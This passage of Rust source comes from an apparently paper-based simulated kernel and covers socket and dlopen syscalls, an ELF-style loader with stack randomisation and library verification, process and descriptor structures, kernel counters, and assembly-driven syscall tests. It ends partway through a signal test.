fn sys_accept(k: &mut Kernel, pid: Pid, port: u16) -> Outcome {
    if !k.sys.net.has_listener(port) {
        return Outcome::Ret(EINVAL);
    }
    match k.sys.net.accept(port) {
        Some(conn) => {
            let fd = k.sys.proc_mut(pid).install_fd(FdObject::Socket {
                rx: conn.c2s,
                tx: conn.s2c,
            });
            Outcome::Ret(fd as i32)
        }
        None => Outcome::Block(WaitReason::Accept(port)),
    }
}

fn sys_connect(k: &mut Kernel, pid: Pid, port: u16) -> Outcome {
    match k.sys.net.connect(&mut k.sys.pipes, port) {
        Some(conn) => {
            let fd = k.sys.proc_mut(pid).install_fd(FdObject::Socket {
                rx: conn.s2c,
                tx: conn.c2s,
            });
            k.sys.wake_where(|r| *r == WaitReason::Accept(port));
            Outcome::Ret(fd as i32)
        }
        None => Outcome::Block(WaitReason::Connect(port)),
    }
}

fn sys_dlopen(k: &mut Kernel, pid: Pid, path_ptr: u32) -> Outcome {
    let Some(path) = k.user_cstr(pid, path_ptr) else {
        return Outcome::Ret(EFAULT);
    };
    match crate::loader::load_library(k, pid, &path) {
        Ok(base) => Outcome::Ret(base as i32),
        Err(crate::kernel::SpawnError::VerificationFailed(_)) => Outcome::Ret(EACCES),
        Err(crate::kernel::SpawnError::Io(_)) => Outcome::Ret(EIO),
        Err(_) => Outcome::Ret(ENOENT),
    }
}
