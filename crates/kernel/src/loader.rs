//! Program and library loader (the paper's patched ELF loader, §5.1).
//!
//! Maps image segments eagerly (copying bytes straight into the backing
//! frames), sets up heap bookkeeping and a demand-paged stack with optional
//! placement randomisation, loads shared libraries (with engine
//! verification, §4.3), and finally gives the protection engine its
//! `on_region_mapped` callback for every eagerly mapped region — the point
//! where the split-memory engine duplicates pages.

use crate::image::{ExecImage, Segment};
use crate::kernel::{Kernel, SpawnError};
use crate::process::Pid;
use crate::vma::{Vma, VmaKind};
use sm_machine::cpu::Regs;
use sm_machine::pte::{self, PAGE_SIZE};

/// Load `image` into the (already created, empty-address-space) process
/// `pid`: map segments, libraries, heap and stack, and set the initial
/// register file in `proc.ctx`.
pub(crate) fn load_into(k: &mut Kernel, pid: Pid, image: &ExecImage) -> Result<(), SpawnError> {
    let mut regions: Vec<(u32, u32)> = Vec::new();
    let mut max_end = 0u32;
    for seg in &image.segments {
        let range = map_segment(k, pid, seg, VmaKind::from_flags(seg.flags), &image.name)?;
        regions.push(range);
        max_end = max_end.max(seg.end());
    }

    // Heap: starts one guard page above the image; grows via brk.
    let brk_start = pte::page_align_up(max_end) + PAGE_SIZE;
    {
        let p = k.sys.proc_mut(pid);
        p.aspace.brk_start = brk_start;
        p.aspace.brk = brk_start;
    }

    // Stack: page-granular ASLR of the base plus sub-page jitter of esp,
    // approximating the "slight randomization to the placement of an
    // application's stack" in Linux 2.6 (paper §6.1.2).
    let (page_shift, esp_jitter) = if k.sys.config.aslr_stack {
        (
            k.sys.rng.gen_range(0u32..16) * PAGE_SIZE,
            k.sys.rng.gen_range(0u32..64) * 16,
        )
    } else {
        (0, 0)
    };
    let stack_high = k.sys.config.stack_top - page_shift;
    let stack_low = stack_high - k.sys.config.stack_size;
    {
        let p = k.sys.proc_mut(pid);
        p.aspace.stack_low = stack_low;
        p.aspace.stack_high = stack_high;
        p.aspace.add_vma(Vma::new(
            stack_low,
            stack_high,
            crate::image::SEG_R | crate::image::SEG_W,
            VmaKind::Stack,
            "stack",
        ));
    }
    // Eagerly map the top stack page so program entry doesn't immediately
    // fault.
    let top_page = stack_high - PAGE_SIZE;
    let frame = k.sys.alloc_zeroed().map_err(|_| SpawnError::OutOfMemory)?;
    {
        let sys = &mut k.sys;
        let p = sys.procs.get_mut(&pid.0).expect("pid");
        if p.aspace
            .map_frame(
                &mut sys.machine,
                &mut sys.frames,
                top_page,
                frame,
                pte::USER | pte::WRITABLE,
            )
            .is_err()
        {
            // The frame was never mapped, so the teardown walk in `spawn`
            // cannot find it — release it here or it leaks.
            sys.frames.release(&mut sys.machine, frame);
            return Err(SpawnError::OutOfMemory);
        }
    }
    regions.push((top_page, stack_high));

    // Shared libraries (load-time; paper §4.3).
    for lib in &image.libs {
        load_library(k, pid, lib)?;
    }

    // Initial registers.
    let mut ctx = Regs {
        eip: image.entry,
        ..Regs::default()
    };
    ctx.set(sm_machine::cpu::Reg::Esp, stack_high - 16 - esp_jitter);
    k.sys.proc_mut(pid).ctx = ctx;

    // Engine callbacks last: the process is fully visible in the table.
    for (start, end) in regions {
        k.engine.on_region_mapped(&mut k.sys, pid, start, end);
    }
    Ok(())
}

/// Load a dynamic/shared library into `pid`, verifying it first. Returns
/// the lowest mapped address.
///
/// # Errors
///
/// [`SpawnError::BadImage`] for missing/corrupt libraries,
/// [`SpawnError::VerificationFailed`] if the engine rejects the signature.
pub(crate) fn load_library(k: &mut Kernel, pid: Pid, path: &str) -> Result<u32, SpawnError> {
    // Reading the library off disk is a filesystem operation like any
    // other: the chaos plan may fail it outright or hand back a truncated
    // image (which then fails to parse). Either way the caller unwinds
    // cleanly — nothing has been mapped yet.
    let fault = k.sys.chaos_fs_fault();
    if fault.error {
        return Err(SpawnError::Io(format!("reading {path}")));
    }
    let mut bytes = k
        .sys
        .fs
        .file(path)
        .ok_or_else(|| SpawnError::BadImage(format!("no such library {path}")))?
        .clone();
    if fault.short {
        bytes.truncate(1);
    }
    let image =
        ExecImage::from_bytes(&bytes).map_err(|e| SpawnError::BadImage(format!("{path}: {e}")))?;
    match k.engine.verify_library(&mut k.sys, pid, &image) {
        Ok(()) => {
            k.sys.log(crate::events::Event::Library {
                pid,
                name: path.to_string(),
                verified: true,
            });
        }
        Err(reason) => {
            k.sys.log(crate::events::Event::Library {
                pid,
                name: path.to_string(),
                verified: false,
            });
            return Err(SpawnError::VerificationFailed(format!("{path}: {reason}")));
        }
    }
    let mut base = u32::MAX;
    let mut regions = Vec::new();
    for seg in &image.segments {
        let range = map_segment(k, pid, seg, VmaKind::Library, path)?;
        regions.push(range);
        base = base.min(seg.vaddr);
    }
    for (start, end) in regions {
        k.engine.on_region_mapped(&mut k.sys, pid, start, end);
    }
    k.sys.stats.libraries_loaded += 1;
    Ok(base)
}

impl VmaKind {
    fn from_flags(flags: u8) -> VmaKind {
        if flags & crate::image::SEG_X != 0 {
            VmaKind::Code
        } else {
            VmaKind::Data
        }
    }
}

/// Map one segment: allocate frames for its page range (or upgrade the
/// permissions of pages shared with a previous segment — that sharing is
/// exactly the mixed-page shape of paper Fig. 1b), copy the file bytes in,
/// and register the VMA. Returns the page-aligned range mapped.
fn map_segment(
    k: &mut Kernel,
    pid: Pid,
    seg: &Segment,
    kind: VmaKind,
    label: &str,
) -> Result<(u32, u32), SpawnError> {
    let start_page = pte::page_base(seg.vaddr);
    let end_page = pte::page_align_up(seg.end());
    let writable = seg.flags & crate::image::SEG_W != 0;
    let mut addr = start_page;
    while addr < end_page {
        let entry = k.sys.pte_of(pid, addr);
        if pte::has(entry, pte::PRESENT) {
            // Page shared with an earlier segment: widen permissions.
            if writable && !pte::has(entry, pte::WRITABLE) {
                k.sys.set_pte(pid, addr, entry | pte::WRITABLE);
            }
        } else {
            let frame = k.sys.alloc_zeroed().map_err(|_| SpawnError::OutOfMemory)?;
            let mut flags = pte::USER;
            if writable {
                flags |= pte::WRITABLE;
            }
            {
                let sys = &mut k.sys;
                let p = sys.procs.get_mut(&pid.0).expect("pid");
                if p.aspace
                    .map_frame(&mut sys.machine, &mut sys.frames, addr, frame, flags)
                    .is_err()
                {
                    // Unmapped frames are invisible to the teardown walk.
                    sys.frames.release(&mut sys.machine, frame);
                    return Err(SpawnError::OutOfMemory);
                }
            }
            // Loading is not free: allocating + preparing a page costs what
            // demand paging costs.
            let dp = k.sys.machine.config.costs.demand_page;
            k.sys.charge(dp);
        }
        addr += PAGE_SIZE;
    }
    // Copy file bytes through the pagetable (phys writes, no TLB traffic),
    // one pagetable walk and one bulk write per page. These writes deposit
    // *code* into frames the CPU will fetch from: `PhysMemory::write` bumps
    // each touched frame's write-generation, which is what keeps the
    // machine's decoded-instruction cache coherent when a frame is
    // recycled across spawns (invariant #6).
    let copy_cost = k.sys.machine.config.costs.copy_byte * seg.data.len() as u64;
    k.sys.charge(copy_cost);
    let mut i = 0usize;
    while i < seg.data.len() {
        let vaddr = seg.vaddr + i as u32;
        let entry = k.sys.pte_of(pid, vaddr);
        debug_assert!(pte::has(entry, pte::PRESENT));
        let off = pte::page_offset(vaddr);
        let n = ((PAGE_SIZE - off) as usize).min(seg.data.len() - i);
        k.sys
            .machine
            .phys
            .write(pte::frame(entry).base() + off, &seg.data[i..i + n]);
        i += n;
    }
    k.sys.proc_mut(pid).aspace.add_vma(Vma::new(
        seg.vaddr,
        seg.end().max(seg.vaddr + 1),
        seg.flags,
        kind,
        label,
    ));
    Ok((start_page, end_page))
}
