//! Processes, file descriptors and scheduling states.

use crate::addrspace::AddressSpace;
use crate::fs::PipeId;
use crate::signal::SignalState;
use sm_machine::cpu::Regs;
use std::fmt;

/// Process identifier.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Pid(pub u32);

impl fmt::Display for Pid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "pid {}", self.0)
    }
}

/// What a blocked process is waiting for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WaitReason {
    /// Readable data (or writer close) on a pipe.
    PipeReadable(PipeId),
    /// Free space (or reader close) on a pipe.
    PipeWritable(PipeId),
    /// An incoming connection on a listening port.
    Accept(u16),
    /// A listener to appear on a port (connect side).
    Connect(u16),
    /// Any child to exit (`waitpid`).
    Child,
    /// `pause()` — any signal.
    Pause,
}

/// Scheduling state.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ProcState {
    /// Runnable (possibly currently on the CPU).
    Ready,
    /// Parked until the wait reason resolves.
    Blocked(WaitReason),
    /// Exited, waiting to be reaped by the parent.
    Zombie,
}

/// One entry in a process's descriptor table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FdObject {
    /// Process console: writes append to [`Process::output`], reads consume
    /// [`Process::input`].
    Console,
    /// Open ram-fs file with a cursor.
    File {
        /// Path into the ram fs.
        path: String,
        /// Read/write cursor.
        offset: u32,
        /// `O_*` flags it was opened with.
        flags: u32,
    },
    /// Read end of a pipe.
    PipeRead(PipeId),
    /// Write end of a pipe.
    PipeWrite(PipeId),
    /// Bidirectional loopback socket (a pipe pair).
    Socket {
        /// Pipe this end reads from.
        rx: PipeId,
        /// Pipe this end writes to.
        tx: PipeId,
    },
}

/// A process.
#[derive(Debug)]
pub struct Process {
    /// Identifier.
    pub pid: Pid,
    /// Parent identifier (initial processes are their own parent).
    pub ppid: Pid,
    /// Image name (diagnostics).
    pub name: String,
    /// Scheduling state.
    pub state: ProcState,
    /// Saved user registers while not on the CPU.
    pub ctx: Regs,
    /// Address space.
    pub aspace: AddressSpace,
    /// Descriptor table (index = fd).
    pub fds: Vec<Option<FdObject>>,
    /// Signal dispositions, pending set and saved-handler context.
    pub signals: SignalState,
    /// Bookkeeping for the split-memory debug-interrupt handshake: the
    /// faulting address saved by the page-fault handler for the debug
    /// handler (paper §5.2 "saving the faulting address into the process'
    /// entry in the OS process table").
    pub pending_step_addr: Option<u32>,
    /// Exit status once a zombie.
    pub exit_code: Option<i32>,
    /// Console output buffer (what the process wrote to fd 1/2).
    pub output: Vec<u8>,
    /// Console input buffer (what reads from fd 0 consume).
    pub input: Vec<u8>,
    /// Sebek-style honeypot logging: when set, `read` results are copied
    /// into the kernel event log (paper Fig. 5d).
    pub honeypot_log: bool,
    /// Recovery handler registered via the `register_recovery` syscall —
    /// the paper's proposed recovery response mode (§4.5).
    pub recovery_handler: Option<u32>,
    /// Cycles spent executing user instructions (rough; for accounting).
    pub user_cycles: u64,
}

impl Process {
    /// Create a process shell around an address space; registers and fds
    /// are set up by the loader.
    pub fn new(pid: Pid, ppid: Pid, name: impl Into<String>, aspace: AddressSpace) -> Process {
        Process {
            pid,
            ppid,
            name: name.into(),
            state: ProcState::Ready,
            ctx: Regs::default(),
            aspace,
            fds: vec![
                Some(FdObject::Console), // 0 stdin
                Some(FdObject::Console), // 1 stdout
                Some(FdObject::Console), // 2 stderr
            ],
            signals: SignalState::new(),
            pending_step_addr: None,
            exit_code: None,
            output: Vec::new(),
            input: Vec::new(),
            honeypot_log: false,
            recovery_handler: None,
            user_cycles: 0,
        }
    }

    /// Install an fd object in the lowest free slot, returning the fd.
    pub fn install_fd(&mut self, obj: FdObject) -> u32 {
        if let Some(idx) = self.fds.iter().position(Option::is_none) {
            self.fds[idx] = Some(obj);
            return idx as u32;
        }
        self.fds.push(Some(obj));
        (self.fds.len() - 1) as u32
    }

    /// Look up an fd.
    pub fn fd(&self, fd: u32) -> Option<&FdObject> {
        self.fds.get(fd as usize).and_then(Option::as_ref)
    }

    /// Remove an fd, returning its object.
    pub fn take_fd(&mut self, fd: u32) -> Option<FdObject> {
        self.fds.get_mut(fd as usize).and_then(Option::take)
    }

    /// Console output as a lossy string (tests and demos).
    pub fn output_string(&self) -> String {
        String::from_utf8_lossy(&self.output).into_owned()
    }

    /// True if runnable.
    pub fn is_ready(&self) -> bool {
        self.state == ProcState::Ready
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addrspace::{AddressSpace, FrameTable};
    use sm_machine::{Machine, MachineConfig};

    fn proc_() -> Process {
        let mut m = Machine::new(MachineConfig {
            phys_frames: 64,
            ..MachineConfig::default()
        });
        let mut ft = FrameTable::new();
        let a = AddressSpace::new(&mut m, &mut ft).unwrap();
        Process::new(Pid(1), Pid(0), "test", a)
    }

    #[test]
    fn std_fds_preinstalled() {
        let p = proc_();
        assert_eq!(p.fd(0), Some(&FdObject::Console));
        assert_eq!(p.fd(2), Some(&FdObject::Console));
        assert_eq!(p.fd(3), None);
    }

    #[test]
    fn fd_allocation_reuses_lowest() {
        let mut p = proc_();
        let a = p.install_fd(FdObject::PipeRead(PipeId(0)));
        assert_eq!(a, 3);
        p.take_fd(1);
        let b = p.install_fd(FdObject::PipeWrite(PipeId(0)));
        assert_eq!(b, 1, "lowest free slot first");
    }

    #[test]
    fn take_fd_twice_is_none() {
        let mut p = proc_();
        assert!(p.take_fd(0).is_some());
        assert!(p.take_fd(0).is_none());
    }
}
