//! Kernel-level counters, complementing the machine's hardware counters.

/// Counters maintained by the kernel.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct KernelStats {
    /// Context switches performed (CR3 actually reloaded).
    pub context_switches: u64,
    /// Pages served by demand paging.
    pub demand_pages: u64,
    /// Copy-on-write breaks.
    pub cow_breaks: u64,
    /// System calls dispatched.
    pub syscalls: u64,
    /// Signals delivered to user handlers.
    pub handler_signals: u64,
    /// Processes killed by a fatal signal.
    pub fatal_signals: u64,
    /// Processes spawned (fork + spawn + execve images loaded).
    pub processes_spawned: u64,
    /// Dynamic/shared libraries loaded.
    pub libraries_loaded: u64,
    /// Kernel-performed TLB fills in software-TLB mode (§4.7).
    pub soft_tlb_fills: u64,
}

impl KernelStats {
    /// Field-wise `self - earlier` for measuring a region. Saturating:
    /// a baseline from a different (or reset) kernel yields zeros for
    /// regressed fields rather than a debug panic / release wrap-around.
    pub fn since(&self, earlier: &KernelStats) -> KernelStats {
        KernelStats {
            context_switches: self
                .context_switches
                .saturating_sub(earlier.context_switches),
            demand_pages: self.demand_pages.saturating_sub(earlier.demand_pages),
            cow_breaks: self.cow_breaks.saturating_sub(earlier.cow_breaks),
            syscalls: self.syscalls.saturating_sub(earlier.syscalls),
            handler_signals: self.handler_signals.saturating_sub(earlier.handler_signals),
            fatal_signals: self.fatal_signals.saturating_sub(earlier.fatal_signals),
            processes_spawned: self
                .processes_spawned
                .saturating_sub(earlier.processes_spawned),
            libraries_loaded: self
                .libraries_loaded
                .saturating_sub(earlier.libraries_loaded),
            soft_tlb_fills: self.soft_tlb_fills.saturating_sub(earlier.soft_tlb_fills),
        }
    }

    /// Field-wise saturating accumulation of a [`since`](Self::since)
    /// delta, the inverse operation: summing each segment's delta onto the
    /// first segment's baseline reconstructs the end-of-run totals.
    pub fn absorb(&mut self, delta: &KernelStats) {
        self.context_switches = self.context_switches.saturating_add(delta.context_switches);
        self.demand_pages = self.demand_pages.saturating_add(delta.demand_pages);
        self.cow_breaks = self.cow_breaks.saturating_add(delta.cow_breaks);
        self.syscalls = self.syscalls.saturating_add(delta.syscalls);
        self.handler_signals = self.handler_signals.saturating_add(delta.handler_signals);
        self.fatal_signals = self.fatal_signals.saturating_add(delta.fatal_signals);
        self.processes_spawned = self
            .processes_spawned
            .saturating_add(delta.processes_spawned);
        self.libraries_loaded = self.libraries_loaded.saturating_add(delta.libraries_loaded);
        self.soft_tlb_fills = self.soft_tlb_fills.saturating_add(delta.soft_tlb_fills);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn since_subtracts() {
        let a = KernelStats {
            syscalls: 5,
            ..KernelStats::default()
        };
        let b = KernelStats {
            syscalls: 9,
            context_switches: 2,
            ..KernelStats::default()
        };
        let d = b.since(&a);
        assert_eq!(d.syscalls, 4);
        assert_eq!(d.context_switches, 2);
    }

    #[test]
    fn absorb_inverts_since() {
        let a = KernelStats {
            syscalls: 5,
            cow_breaks: 1,
            ..KernelStats::default()
        };
        let b = KernelStats {
            syscalls: 9,
            context_switches: 2,
            cow_breaks: 3,
            ..KernelStats::default()
        };
        let mut rebuilt = a;
        rebuilt.absorb(&b.since(&a));
        assert_eq!(rebuilt, b);
    }
}
