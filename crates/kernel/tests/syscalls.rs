//! Guest-driven syscall tests: each test runs a real guest program and
//! asserts on its observable behaviour (exit status, console output,
//! filesystem state).

use sm_kernel::engine::NullEngine;
use sm_kernel::kernel::{Kernel, KernelConfig, RunExit};
use sm_kernel::userlib::{BuiltProgram, ProgramBuilder};
use sm_machine::MachineConfig;

fn kernel() -> Kernel {
    Kernel::with_engine(Box::new(NullEngine))
}

fn run_to_exit(k: &mut Kernel, prog: &BuiltProgram) -> (sm_kernel::Pid, Option<i32>) {
    let pid = k.spawn(&prog.image).expect("spawn");
    assert_eq!(k.run(100_000_000), RunExit::AllExited, "guest did not exit");
    let code = k.sys.proc(pid).exit_code;
    (pid, code)
}

#[test]
fn file_write_read_roundtrip() {
    let prog = ProgramBuilder::new("/bin/fio")
        .code(
            "_start:
                ; creat + write
                mov eax, SYS_OPEN
                mov ebx, path
                mov ecx, 0x241        ; O_WRONLY|O_CREAT|O_TRUNC
                int 0x80
                mov [fd], eax
                mov eax, SYS_WRITE
                mov ebx, [fd]
                mov ecx, content
                mov edx, 11
                int 0x80
                mov eax, SYS_CLOSE
                mov ebx, [fd]
                int 0x80
                ; reopen + read back
                mov eax, SYS_OPEN
                mov ebx, path
                mov ecx, 0
                int 0x80
                mov [fd], eax
                mov eax, SYS_READ
                mov ebx, [fd]
                mov ecx, buf
                mov edx, 32
                int 0x80
                cmp eax, 11
                jne bad
                mov esi, buf
                mov edi, content
                call strcmp
                cmp eax, 0
                jne bad
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data(
            "path: .asciz \"/tmp/t\"
             fd: .word 0
             content: .asciz \"hello files\"
             buf: .space 32",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
    assert!(k.sys.fs.file("/tmp/t").unwrap().starts_with(b"hello files"));
}

#[test]
fn lseek_repositions_the_cursor() {
    let prog = ProgramBuilder::new("/bin/seek")
        .code(
            "_start:
                mov eax, SYS_OPEN
                mov ebx, path
                mov ecx, 0x241
                int 0x80
                mov [fd], eax
                mov eax, SYS_WRITE
                mov ebx, [fd]
                mov ecx, content
                mov edx, 6
                int 0x80
                ; seek back to offset 2, SEEK_SET
                mov eax, SYS_LSEEK
                mov ebx, [fd]
                mov ecx, 2
                mov edx, 0
                int 0x80
                cmp eax, 2
                jne bad
                ; overwrite two bytes
                mov eax, SYS_WRITE
                mov ebx, [fd]
                mov ecx, patch
                mov edx, 2
                int 0x80
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data(
            "path: .asciz \"/tmp/s\"
             fd: .word 0
             content: .ascii \"abcdef\"
             patch: .ascii \"XY\"",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
    assert_eq!(k.sys.fs.file("/tmp/s").unwrap().as_slice(), b"abXYef");
}

#[test]
fn bad_fds_return_ebadf() {
    let prog = ProgramBuilder::new("/bin/badfd")
        .code(
            "_start:
                ; read from an unopened fd
                mov eax, SYS_READ
                mov ebx, 9
                mov ecx, buf
                mov edx, 4
                int 0x80
                cmp eax, -9           ; EBADF
                jne bad
                ; close it twice
                mov eax, SYS_CLOSE
                mov ebx, 0
                int 0x80
                mov eax, SYS_CLOSE
                mov ebx, 0
                int 0x80
                cmp eax, -9
                jne bad
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data("buf: .space 4")
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}

#[test]
fn open_missing_file_is_enoent() {
    let prog = ProgramBuilder::new("/bin/noent")
        .code(
            "_start:
                mov eax, SYS_OPEN
                mov ebx, path
                mov ecx, 0
                int 0x80
                cmp eax, -2           ; ENOENT
                jne bad
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data("path: .asciz \"/no/such\"")
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}

#[test]
fn pipe_eof_after_writer_closes() {
    let prog = ProgramBuilder::new("/bin/peof")
        .code(
            "_start:
                mov eax, SYS_PIPE
                mov ebx, fds
                int 0x80
                mov eax, SYS_WRITE
                mov ebx, [fds+4]
                mov ecx, msg
                mov edx, 3
                int 0x80
                ; close the write end
                mov eax, SYS_CLOSE
                mov ebx, [fds+4]
                int 0x80
                ; drain the pipe
                mov eax, SYS_READ
                mov ebx, [fds]
                mov ecx, buf
                mov edx, 16
                int 0x80
                cmp eax, 3
                jne bad3
                ; now EOF, not a block
                mov eax, SYS_READ
                mov ebx, [fds]
                mov ecx, buf
                mov edx, 16
                int 0x80
                cmp eax, 0
                jne bad4
                mov ebx, 0
                call exit
            bad3:
                mov ebx, 3
                call exit
            bad4:
                mov ebx, 4
                call exit",
        )
        .data(
            "fds: .space 8
             msg: .ascii \"abc\"
             buf: .space 16",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}

#[test]
fn write_to_pipe_with_no_reader_is_epipe() {
    let prog = ProgramBuilder::new("/bin/epipe")
        .code(
            "_start:
                mov eax, SYS_PIPE
                mov ebx, fds
                int 0x80
                mov eax, SYS_CLOSE
                mov ebx, [fds]        ; close the read end
                int 0x80
                mov eax, SYS_WRITE
                mov ebx, [fds+4]
                mov ecx, msg
                mov edx, 3
                int 0x80
                cmp eax, -32          ; EPIPE
                jne bad
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data(
            "fds: .space 8
             msg: .ascii \"xyz\"",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}

#[test]
fn dup2_redirects_standard_output() {
    let prog = ProgramBuilder::new("/bin/redir")
        .code(
            "_start:
                ; open a file and dup2 it onto stdout
                mov eax, SYS_OPEN
                mov ebx, path
                mov ecx, 0x241
                int 0x80
                mov [fd], eax
                mov ebx, [fd]
                mov ecx, 1
                mov eax, SYS_DUP2
                int 0x80
                ; print goes to the file now
                mov esi, msg
                call print
                mov ebx, 0
                call exit",
        )
        .data(
            "path: .asciz \"/tmp/out\"
             fd: .word 0
             msg: .asciz \"redirected\"",
        )
        .build()
        .unwrap();
    let mut k = kernel();
    let (pid, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
    assert_eq!(k.sys.fs.file("/tmp/out").unwrap().as_slice(), b"redirected");
    assert!(k.sys.proc(pid).output.is_empty(), "console stayed silent");
}

#[test]
fn mmap_gives_usable_zeroed_memory_and_munmap_revokes_it() {
    let prog = ProgramBuilder::new("/bin/map")
        .code(
            "_start:
                mov eax, SYS_MMAP
                mov ebx, 8192
                mov ecx, 3            ; PROT_READ|PROT_WRITE
                int 0x80
                mov [base], eax
                ; zero-filled?
                mov ebx, eax
                mov ecx, [ebx]
                cmp ecx, 0
                jne bad
                ; writable?
                mov dword [ebx], 0x5555
                mov ecx, [ebx]
                cmp ecx, 0x5555
                jne bad
                ; unmap, then the access must fault (SIGSEGV kills us with
                ; status 139, which the harness checks)
                mov eax, SYS_MUNMAP
                mov ebx, [base]
                mov ecx, 8192
                int 0x80
                cmp eax, 0
                jne bad
                mov ebx, [base]
                mov ecx, [ebx]        ; boom
                mov ebx, 2            ; (not reached)
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data("base: .word 0")
        .build()
        .unwrap();
    let mut k = kernel();
    let pid = k.spawn(&prog.image).unwrap();
    k.run(100_000_000);
    assert_eq!(
        k.sys.proc(pid).exit_code,
        Some(128 + 11),
        "expected SIGSEGV after munmap"
    );
}

#[test]
fn brk_grows_the_heap() {
    let prog = ProgramBuilder::new("/bin/heap")
        .code(
            "_start:
                mov eax, SYS_BRK
                mov ebx, 0
                int 0x80
                mov [base], eax
                add eax, 12288
                mov ebx, eax
                mov eax, SYS_BRK
                int 0x80
                ; touch all three new pages
                mov ebx, [base]
                mov dword [ebx], 1
                mov dword [ebx+4096], 2
                mov dword [ebx+8192], 3
                mov eax, [ebx]
                add eax, [ebx+4096]
                add eax, [ebx+8192]
                mov ebx, eax          ; 6
                call exit",
        )
        .data("base: .word 0")
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(6));
}

#[test]
fn execve_replaces_the_image() {
    let hello = ProgramBuilder::new("/bin/hello")
        .code(
            "_start:
                mov esi, msg
                call print
                mov ebx, 5
                call exit",
        )
        .data("msg: .asciz \"from exec\"")
        .build()
        .unwrap();
    let prog = ProgramBuilder::new("/bin/execer")
        .code(
            "_start:
                mov eax, SYS_EXECVE
                mov ebx, path
                int 0x80
                ; only reached on failure
                mov ebx, 1
                call exit",
        )
        .data("path: .asciz \"/bin/hello\"")
        .build()
        .unwrap();
    let mut k = kernel();
    k.sys.fs.install("/bin/hello", hello.image.to_bytes());
    let (pid, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(5));
    assert_eq!(k.sys.proc(pid).output_string(), "from exec");
    assert!(k.sys.events.execed("/bin/hello"));
}

#[test]
fn execve_missing_image_returns_enoent() {
    let prog = ProgramBuilder::new("/bin/execer2")
        .code(
            "_start:
                mov eax, SYS_EXECVE
                mov ebx, path
                int 0x80
                cmp eax, -2
                jne bad
                mov ebx, 0
                call exit
            bad:
                mov ebx, 1
                call exit",
        )
        .data("path: .asciz \"/bin/missing\"")
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}

#[test]
fn dlopen_loads_a_library_at_runtime() {
    // A library exporting a function at a known address.
    let lib = ProgramBuilder::new("/lib/libanswer.so")
        .without_stdlib()
        .code("answer: mov eax, 41\n inc eax\n ret")
        .build()
        .unwrap();
    let mut libimg = lib.image.clone();
    for seg in &mut libimg.segments {
        seg.vaddr += 0x3800_0000; // relocate to the library area
    }
    let fn_addr = lib.sym("answer") + 0x3800_0000;
    let prog = ProgramBuilder::new("/bin/dl")
        .code(&format!(
            "_start:
                mov eax, SYS_DLOPEN
                mov ebx, path
                int 0x80
                cmp eax, 0
                jle bad
                mov eax, {fn_addr}
                call eax
                mov ebx, eax          ; 42
                call exit
            bad:
                mov ebx, 1
                call exit"
        ))
        .data("path: .asciz \"/lib/libanswer.so\"")
        .build()
        .unwrap();
    let mut k = kernel();
    k.sys.fs.install("/lib/libanswer.so", libimg.to_bytes());
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(42));
    assert_eq!(k.sys.stats.libraries_loaded, 1);
}

#[test]
fn kill_delivers_fatal_signal_between_processes() {
    let prog = ProgramBuilder::new("/bin/killer")
        .code(
            "_start:
                mov eax, SYS_FORK
                int 0x80
                cmp eax, 0
                je child
                ; parent: kill the child with SIGKILL and reap it
                mov ebx, eax
                mov ecx, 9
                mov eax, SYS_KILL
                int 0x80
                mov eax, SYS_WAITPID
                mov ebx, -1
                mov ecx, status
                int 0x80
                mov eax, [status]
                cmp eax, 137          ; 128 + SIGKILL
                jne bad
                mov ebx, 0
                call exit
            child:
                mov eax, SYS_PAUSE
                int 0x80
                jmp child
            bad:
                mov ebx, 1
                call exit",
        )
        .data("status: .word 0")
        .build()
        .unwrap();
    let mut k = kernel();
    let (_, code) = run_to_exit(&mut k, &prog);
    assert_eq!(code, Some(0));
}

#[test]
fn nested_signal_state_restores_cleanly() {
    // Handler runs, sigreturn restores, and a second signal round trips
    // too.
    let prog = ProgramBuilder::new("/bin/sig2")
        .code(
            "_start:
                mov eax, SYS_SIGNAL
                mov ebx, 10
                mov ecx, handler
                int 0x80
                mov ecx, 2            ; two rounds
            again:
                push ecx
                mov eax, SYS_GETPID
                int 0x80
                mov ebx, eax
                mov ecx, 10
                mov eax, SYS_KILL
                int 0x80
                pop ecx
                dec ecx
                jnz again
                mov eax, [count]
                mov ebx, eax          ; 2
                call exit
            handler:
                inc dword [count]
                ret",
        )
        .data("count: .word 0")
        .build()
